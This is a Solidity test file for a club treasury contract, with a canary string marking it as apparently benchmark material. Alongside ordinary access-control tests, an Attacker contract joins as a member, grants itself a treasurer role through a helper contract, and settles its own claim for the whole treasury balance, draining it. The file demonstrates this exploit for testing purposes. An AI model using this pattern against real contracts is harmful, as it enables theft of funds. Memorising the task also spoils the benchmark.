// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./ClubTreasury.sol";

// assay-canary-25ea2874-e5b9-43d4-82de-bb46cb045d26

interface Vm {
    function deal(address who, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);
    address internal constant CAT = address(0xCA7);

    ClubTreasury internal treasury;
    Attacker internal mallory;
    bytes32 internal memberRole;
    bytes32 internal treasurerRole;
    bytes32 internal secretaryRole;

    function setUp() public {
        treasury = new ClubTreasury(1 ether, ANA);
        memberRole = treasury.MEMBER_ROLE();
        treasurerRole = treasury.TREASURER_ROLE();
        secretaryRole = treasury.SECRETARY_ROLE();
        vm.deal(address(this), 100 ether);
        vm.deal(ANA, 10 ether);
        vm.deal(BEN, 10 ether);
        vm.deal(CAT, 60 ether);
        vm.prank(CAT);
        (bool ok, ) = address(treasury).call{value: 50 ether}("");
        require(ok, "donated");
        mallory = new Attacker{value: 1 ether}(treasury);
    }

    function appointBen() internal {
        vm.prank(ANA);
        treasury.grantRole(treasurerRole, BEN);
    }

    function submitCat() internal returns (uint256 id) {
        vm.startPrank(CAT);
        treasury.join{value: 1 ether}();
        id = treasury.submit(3 ether, "receipt");
        vm.stopPrank();
    }

    function test_Regular() public {
        appointBen();
        uint256 id = submitCat();
        uint256 until = treasury.paidUntil(CAT);
        vm.prank(CAT);
        treasury.renew{value: 1 ether}();
        require(treasury.paidUntil(CAT) == until + 365 days, "a year more");
        vm.prank(BEN);
        treasury.settle(id);
        require(CAT.balance == 11 ether && treasury.claimAt(id).decision == ClubTreasury.Decision.Settled, "settled");
        vm.prank(CAT);
        uint256 second = treasury.submit(1 ether, "other");
        vm.prank(BEN);
        treasury.decline(second);
        require(treasury.claimAt(second).decision == ClubTreasury.Decision.Declined && treasury.claimCount() == 2, "declined");
        require(address(treasury).balance == 49 ether, "kept");
        vm.prank(BEN);
        treasury.renounceRole(treasurerRole, BEN);
        vm.startPrank(ANA);
        treasury.revokeRole(memberRole, CAT);
        treasury.grantRole(secretaryRole, CAT);
        vm.stopPrank();
        require(!treasury.hasRole(treasurerRole, BEN) && !treasury.hasRole(memberRole, CAT), "out of office");
    }

    function lacks(address who, bytes32 role) internal pure returns (bytes memory) {
        return abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, who, role);
    }

    function test_RefusesStrangers() public {
        uint256 id = submitCat();
        vm.deal(BEN, 5 ether);
        vm.startPrank(BEN);
        vm.expectRevert(lacks(BEN, memberRole));
        treasury.renew{value: 1 ether}();
        vm.expectRevert(lacks(BEN, memberRole));
        treasury.submit(1, "receipt");
        vm.expectRevert(lacks(BEN, treasurerRole));
        treasury.settle(id);
        vm.expectRevert(lacks(BEN, treasurerRole));
        treasury.decline(id);
        vm.stopPrank();
    }

    function test_RefusesMembers() public {
        vm.startPrank(BEN);
        vm.expectRevert(abi.encodeWithSelector(WrongDues.selector, 2 ether, 1 ether));
        treasury.join{value: 2 ether}();
        treasury.join{value: 1 ether}();
        vm.expectRevert(abi.encodeWithSelector(EmptyClaim.selector));
        treasury.submit(0, "receipt");
        uint256 until = treasury.paidUntil(BEN);
        vm.warp(until + 1);
        vm.expectRevert(abi.encodeWithSelector(DuesLapsed.selector, until));
        treasury.submit(1, "receipt");
        vm.stopPrank();
    }

    function test_RefusesDecisions() public {
        appointBen();
        uint256 id = submitCat();
        vm.startPrank(BEN);
        vm.expectRevert(abi.encodeWithSelector(UnknownClaim.selector, 7));
        treasury.settle(7);
        treasury.decline(id);
        vm.expectRevert(abi.encodeWithSelector(AlreadyDecided.selector, id));
        treasury.settle(id);
        treasury.join{value: 1 ether}();
        uint256 own = treasury.submit(1, "own");
        vm.expectRevert(abi.encodeWithSelector(OwnClaim.selector, own));
        treasury.settle(own);
        vm.expectRevert(abi.encodeWithSelector(UnknownClaim.selector, 7));
        treasury.claimAt(7);
        vm.stopPrank();
        treasury.join{value: 1 ether}();
        uint256 ours = treasury.submit(1 ether, "here");
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(PaymentFailed.selector, address(this), 1 ether));
        treasury.settle(ours);
    }

    function test_RefusesDeployment() public {
        vm.expectRevert(abi.encodeWithSelector(ZeroDues.selector));
        new ClubTreasury(0, ANA);
        vm.expectRevert(abi.encodeWithSelector(ZeroAddress.selector));
        new ClubTreasury(1, address(0));
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 50 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(treasury);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    ClubTreasury internal treasury;

    constructor(ClubTreasury treasury_) payable {
        treasury = treasury_;
    }

    function run() external {
        treasury.join{value: 1 ether}();
        Second second = new Second();
        treasury.grantRole(treasury.TREASURER_ROLE(), address(second));
        second.settle(treasury, treasury.submit(address(treasury).balance, "paper"));
    }

    receive() external payable {}
}

contract Second {
    function settle(ClubTreasury treasury, uint256 id) external {
        treasury.settle(id);
    }
}
